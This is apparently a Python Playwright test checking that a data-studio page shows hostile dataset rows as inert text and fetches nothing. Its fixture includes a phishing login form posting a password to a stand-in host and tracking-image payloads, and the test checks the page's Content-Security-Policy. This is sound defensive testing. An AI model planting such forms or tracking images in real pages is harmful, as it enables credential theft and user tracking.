"""User text is inert in the page (issue 28, case 4): a data set whose rows hold a login form posting to another host
and Markdown / HTML images from another host is loaded and a row is viewed in full; no form or image is made of the
text (it is shown as text) and the browser sends nothing to that host. The page carries a Content-Security-Policy
that forbids remote images and form actions."""
from __future__ import annotations

import json
import urllib.request

from playwright.sync_api import expect

from tests.browser.conftest import shot

HOST = "tracker.invalid"
FORM = f'<form action="http://{HOST}/phish"><input name="pw" type="password"><button>Log in</button></form>'
IMAGE = f"![i](http://{HOST}/track.png)"
RAW_IMG = f'<img src="http://{HOST}/raw.png">'


def test_a_hostile_data_row_is_shown_as_text_and_fetches_nothing(page, studio_server, tmp_path, bundled_model_dir):
    with urllib.request.urlopen(studio_server["url"]) as r:
        csp = r.headers.get("Content-Security-Policy", "")
    assert "img-src 'self' data: blob:" in csp and "form-action 'self'" in csp

    requests = []
    page.on("request", lambda req: requests.append(req.url))
    rows = [{"prompt": f"Please sign in {IMAGE}", "completion": f"Sure. {FORM} {RAW_IMG} **done**", "label": True},
            {"prompt": "Hi", "completion": "Hello!", "label": False}]
    src = tmp_path / "hostile.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")

    page.get_by_role("tab", name="Data").click()
    page.locator("#data-upload input[type=file]").set_input_files(str(src))
    expect(page.locator("#data-summary")).to_contain_text("2 KTO rows", timeout=90_000)
    page.locator("#data-table [data-testid='cell-0-1']").click()
    detail = page.locator("#data-row-detail")
    expect(detail).to_contain_text(FORM, timeout=30_000)  # the markup itself, as text
    expect(detail).to_contain_text(IMAGE)
    expect(detail).to_contain_text(RAW_IMG)
    page.wait_for_timeout(1500)  # give any image the page would fetch time to be requested
    shot(page, "inert-data-row")

    assert page.locator(f"form[action*='{HOST}']").count() == 0
    assert page.locator("input[name='pw']").count() == 0
    assert page.locator(f"img[src*='{HOST}']").count() == 0
    assert not [u for u in requests if HOST in u], requests
